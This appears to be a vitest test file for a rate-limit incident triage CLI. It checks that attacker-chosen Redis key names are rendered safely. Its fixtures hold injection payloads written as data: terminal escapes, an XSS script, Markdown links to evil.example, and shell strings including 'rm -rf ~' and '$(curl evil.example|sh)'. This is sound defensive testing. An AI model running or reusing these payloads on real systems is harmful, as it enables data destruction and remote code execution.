import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Incident, merge, singleIp } from '../support/incidents.ts';
import { counter, series } from '../support/openmetrics.ts';
import { stopEverything, temporaryFolder } from '../support/processes.ts';
import { runInTerminal, runProgram, withoutProgress } from '../support/program.ts';
import { startRedis, type TestRedis } from '../support/redis.ts';
import type { Command } from '../support/resp.ts';
import { incidentAt, nowSeconds, prometheusWith, type Triage, triage } from './systems.ts';

const PROGRAM = fileURLToPath(new URL('../../bin/ratelimit.js', import.meta.url));

/** Names as an attacker would choose them (fewer than the 20 that are listed): the sender chooses a counter's key. */
const NAMES: Record<string, string> = {
  'terminal sequence': '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
  'eight-bit sequence': '\u009b31m\u009d',
  'carriage return': '203.0.113.9\rP2 quiet',
  'line break': '203.0.113.9\nquiet (confidence high): nothing abnormal',
  'right to left': '203.0.113.\u202e9\u2066',
  'zero width': '203.0.113.\u200b42\ufeff',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;',
  Markdown: '[click](http://evil.example) | ![x](//evil.example/x.png) ``` **b** @everyone',
  shell: '$(reboot);`id`&&x>y|z \'q\' "r" \\',
  'other command': '203.0.113.9 EX 1; FLUSHALL',
  prototype: '__proto__',
  constructor: 'constructor',
  'a flag': '--help',
  'not an address': '203.0.113.042',
  'a network': '0.0.0.0/0',
  separators: 'a:b:{c}\u2028d\u2029',
  braces: '{subject}{enough}{yyyymmdd}{total}',
  blank: ' ',
};
const HUGE = 'x'.repeat(7_000);
const NOT_UTF8 = Buffer.from([0xff, 0xfe, 0x41, 0x1b]);
const ATTACKER = '203.0.113.42';
/** A tenant and an agent that really are over their limits, with names that must not get anywhere. */
const TENANT = 'acme"; rm -rf ~ #\u001b[2J<b>\u202e';
const AGENT = '$(curl evil.example|sh)\u001b[2J';

function hostileIncident(now: number, date: string): Incident {
  const names = Object.values(NAMES);
  const target = { job: 'gateway', instance: 'gw-1:8000' };
  const rejects = (tenant: string, path: string, perSecond: number) =>
    series(
      'acp_gateway_request_total',
      { ...target, tenant_id: tenant, method: 'POST', path, status: '429' },
      counter(now, { to: 600, perSecond }),
    );
  return {
    redis: [
      ...[...names, HUGE].map((name) => ['SET', `acp:auth_fail:${name}`, '2', 'EX', '290']),
      ...names.map((name) => ['SET', `acp:ip_block:${name}`, name, 'EX', '600']),
      ...names.flatMap((name) => [
        ['SET', `acp:agent_cost_cap:${name}`, '100.00'],
        ['SET', `acp:agent_cost_today:${name}:${date}`, '1.00'],
      ]),
      ['SET', `acp:agent_cost_cap:${AGENT}`, '100.00'],
      ['SET', `acp:agent_cost_today:${AGENT}:${date}`, '250.00'],
      ['SET', 'acp:agent_cost_cap:agent-7', '100.00'],
      ['SET', `acp:agent_cost_today:agent-7:${date}`, '150.00'],
      ['SET', 'acp:agent_cost_cap:cap-text', '\u001b[2J100 USD\u202e'],
    ],
    series: [
      ...names.map((name) => rejects(name, name, 0.01)),
      ...names.map((name) => rejects(TENANT, name, 0.5)),
    ],
  };
}

let redis: TestRedis;
let systems: string[] = [];
let document: Triage;
const texts: Record<string, string> = {};
beforeAll(async () => {
  const now = nowSeconds();
  const date = new Date(now * 1000).toISOString().slice(0, 10).replaceAll('-', '');
  const incident = merge(incidentAt(now, singleIp()), hostileIncident(now, date));
  const [server, prometheus] = await Promise.all([startRedis(), prometheusWith(incident)]);
  redis = server;
  const bytes: Command[] = ['acp:auth_fail:', 'acp:ip_block:', 'acp:agent_cost_cap:'].map((prefix) => [
    ...['SET', Buffer.concat([Buffer.from(prefix), NOT_UTF8]), '3'],
  ]);
  await redis.load([...incident.redis, ...bytes]);
  systems = ['--redis-url', redis.url, '--prometheus-url', prometheus.url, '--top', '999'];
  for (const format of ['human', 'markdown', 'html']) {
    const { stdout, stderr, code } = await runProgram(['triage', '-o', format, ...systems]);
    expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
    texts[format] = stdout;
  }
  const json = await triage(systems);
  expect(json.code).toBe(0);
  document = json.document;
  texts.json = json.stdout;
});
afterAll(stopEverything);

test('the verdict is still right', () => {
  expect(document.findings.map(({ category, subjects }) => [category, subjects.map(({ id }) => id)])).toEqual(
    [
      ['single-ip-credential-stuffing', [ATTACKER]],
      ['tenant-over-rps-cap', [TENANT]],
      // Of low confidence: no tenant is rejected on /execute alone.
      ['agent-over-cost-cap', [AGENT, 'agent-7']],
    ],
  );
  expect(document.signals['auth-failures-by-ip']?.total).toBe(4812 + 2 * Object.keys(NAMES).length + 3);
});

describe.each(['human', 'json', 'markdown', 'html'])('as %s', (format) => {
  test('nothing in it is obeyed by a terminal, hidden or reordered', () => {
    const text = texts[format] ?? '';
    expect(text).toContain(ATTACKER);
    // Everything that Unicode calls control, format, line or paragraph separator, but for our own line breaks.
    expect(text.match(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u)?.[0]).toBeUndefined();
  });

  test('no line is made by a name', () => {
    expect(texts[format]).not.toMatch(/^(quiet|P2 quiet)/m);
    expect(texts[format]).not.toMatch(/^\s*FLUSHALL/m);
  });
});

test('a terminal gets its own colours and nothing else', async () => {
  const { output } = await runInTerminal(['triage', '--no-input', ...systems]);
  const [start = '', ...coloured] = withoutProgress(output).replaceAll('\r\n', '\n').split('\u001b[');
  expect(coloured.length).toBeGreaterThan(10);
  expect(coloured.filter((part) => !/^\d+(;\d+)*m/.test(part))).toEqual([]);
  const rest = [start, ...coloured].join('');
  expect(rest).toContain(ATTACKER);
  expect(rest.match(/(?!\n)[\p{Cc}\p{Cf}]/u)?.[0]).toBeUndefined();
});

test('the menu after it offers what is suggested, and holds nothing else that a terminal obeys', async () => {
  const answers = [{ after: /What next\?[\s\S]*show more/, type: '\x03' }];
  const { output, code } = await runInTerminal(['triage', '--color', 'never', ...systems], { answers });
  expect(code).toBe(130);
  const [start = '', ...moved] = withoutProgress(output).replaceAll('\r\n', '\n').split('\u001b[');
  // Inquirer moves the cursor, hides and shows it, and clears lines.
  const MOVE = /^(?:\?25[hl]|\d*[A-GJK])/;
  expect(moved.filter((part) => !MOVE.test(part))).toEqual([]);
  const text = [start, ...moved.map((part) => part.replace(MOVE, ''))].join('');
  expect(text.match(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)?.[0]).toBeUndefined();
  const [screen = '', menu = ''] = text.split('What next?');
  expect(screen).toContain(ATTACKER);
  // Long choices are broken at the edge of the terminal.
  const offered = menu.replaceAll(/\s/g, '');
  for (const command of commandsOf(document)) expect(offered).toContain(command.replaceAll(' ', ''));
  expect(offered.match(/ratelimit(?!:)/g)).toHaveLength(commandsOf(document).length);
});

test('Markdown renders names as text', () => {
  const text = texts.markdown ?? '';
  expect(text).not.toMatch(/<[a-z!/]/i);
  const outsideOfCode = text.replaceAll(/`[^`\n]*`/g, '');
  expect(outsideOfCode).not.toMatch(/(?<!\\)\]\(/);
  expect(outsideOfCode).not.toMatch(/https?:\/\/evil/);
  expect(outsideOfCode).not.toMatch(/@everyone/);
  expect(text.match(/^```/gm)?.length).toBe(2 * document.findings.filter(hasCommand).length);
  const tables = text.split('\n\n').filter((block) => block.startsWith('|'));
  expect(tables.length).toBeGreaterThan(3);
  for (const table of tables) {
    const columns = table.split('\n').map((row) => row.match(/(?<!\\)\|/g)?.length);
    expect(new Set(columns).size).toBe(1);
  }
});

const hasCommand = (finding: Triage['findings'][number]) =>
  finding.remedies.some(({ command }) => command !== null);

describe('in JSON every id is exact', () => {
  const idsOf = (signal: string) => document.signals[signal]?.rows.map(({ id }) => id) ?? [];
  const hex = { hex: NOT_UTF8.toString('hex') };

  test.each([
    ['auth-failures-by-ip', [ATTACKER, hex]],
    ['blocks', [hex]],
    ['agent-spend', ['agent-7', AGENT, 'agent-idle', 'cap-text', hex]],
    ['rejects-by-tenant', [TENANT]],
  ])('%s', (signal, others) => {
    const sorted = (ids: unknown[]) => ids.map((id) => JSON.stringify(id)).sort();
    expect(sorted(idsOf(signal))).toEqual(sorted([...Object.values(NAMES), ...others]));
  });

  test('and so are the paths of a mix, whatever objects make of such keys', () => {
    const row = document.signals['rejects-by-tenant']?.rows.find(({ id }) => id === TENANT);
    const paths = Object.entries(row?.labels.path ?? {});
    expect(paths.map(([path]) => path).sort()).toEqual(Object.values(NAMES).sort());
    for (const [, value] of paths) expect(value).toBeCloseTo(0.5, 1);
  });

  test('what is no id is counted and said', () => {
    const [family] = document.warnings.filter((warning) => warning.includes('acp:auth_fail'));
    expect(family).toMatch(
      /^auth-failures-by-ip: 1 key of acp:auth_fail:\* skipped: 1 with a name over 512 bytes/,
    );
    expect(document.warnings.join('\n')).toMatch(/acp:auth_fail:\* are not IP addresses, some not UTF-8/);
    expect(document.warnings.join('\n')).toMatch(/acp:agent_cost_cap:\*? ?.*cannot be used/);
    expect(texts.json).not.toContain('xxxxxxxx');
  });
});

test('only checked identifiers are ever in a command', () => {
  expect(commandsOf(document)).toEqual([
    `ratelimit block-ip ${ATTACKER} --ttl 24h --reason credential_stuffing --redis-url ${redis.url}`,
    `ratelimit caps agent-7 --redis-url ${redis.url}`,
    `ratelimit raise-cap agent-7 --to 180.00 --reason cost_cap_reached --redis-url ${redis.url}`,
  ]);
  for (const format of ['human', 'markdown']) {
    const shown = (texts[format] ?? '').split('\n').filter((line) => /^\s*ratelimit/.test(line));
    expect(shown.map((line) => line.trim())).toEqual(commandsOf(document));
  }
});

const commandsOf = ({ findings }: Triage) =>
  findings.flatMap(({ remedies }) => remedies.flatMap(({ command }) => command ?? []));

test('what is suggested, pasted into a shell, does that to the system that was read and nothing else', async () => {
  const blocks = [...(texts.markdown ?? '').matchAll(/^```sh\n(.*?)^```$/gms)].map(([, lines]) => lines);
  const before = await everything();
  const { exitCode, stdout, stderr } = await inShell(blocks.join(''));
  expect({ exitCode, stderr }).toMatchObject({ exitCode: 0 });
  expect(stdout).toContain('agent-7');

  const [blocked, cap] = [`acp:ip_block:${ATTACKER}`, 'acp:agent_cost_cap:agent-7'];
  const after = await everything();
  expect(before).toMatchObject({ [cap]: '100.00' });
  expect(after).toEqual({ ...before, [blocked]: 'credential_stuffing', [cap]: '180.00' });
  const left = Number(await redis.cli('TTL', blocked));
  expect(left).toBeGreaterThan(86_400 - 60);
  expect(left).toBeLessThanOrEqual(86_400);
  expect(await redis.cli('TTL', cap)).toBe('-1');
});

/** Every key of Redis and what it holds. */
async function everything(): Promise<Record<string, string>> {
  const script = `
    local all = {}
    for _, key in ipairs(redis.call('KEYS', '*')) do
      table.insert(all, key)
      table.insert(all, redis.call('GET', key))
    end
    return cjson.encode(all)`;
  const all = JSON.parse(await redis.cli('EVAL', script, '0')) as string[];
  return Object.fromEntries(all.flatMap((key, at) => (at % 2 === 0 ? [[key, all[at + 1] ?? '']] : [])));
}

/** Runs lines as they are in bash, in which `ratelimit` is the program and does not ask. */
async function inShell(lines: string) {
  const home = await temporaryFolder('home');
  const ratelimit = `ratelimit() {
    if [ "$1" = caps ]; then "$NODE" "$PROGRAM" "$@"; else "$NODE" "$PROGRAM" "$@" --yes --verify 0; fi
  }`;
  return execa('bash', ['-c', `set -e\n${ratelimit}\n${lines}`], {
    cwd: home,
    env: { NODE: process.execPath, PROGRAM, HOME: home, XDG_CONFIG_HOME: home, XDG_STATE_HOME: home },
    extendEnv: false,
    reject: false,
    stdin: 'ignore',
  });
}

test('a loud name that is no address is never a subject, and never quiet either', async () => {
  const other = await startRedis();
  const now = nowSeconds();
  await other.load([['SET', 'acp:auth_fail:203.0.113.9;reboot\u001b[2J', '900', 'EX', '290']]);
  const prometheus = await prometheusWith(incidentAt(now));
  const result = await triage(['--redis-url', other.url, '--prometheus-url', prometheus.url]);
  expect(result.document.verdict.category).toBe('inconclusive');
  expect(result.document.findings).toEqual([]);
  expect(result.stdout).not.toMatch(/ratelimit [a-z]/);
});
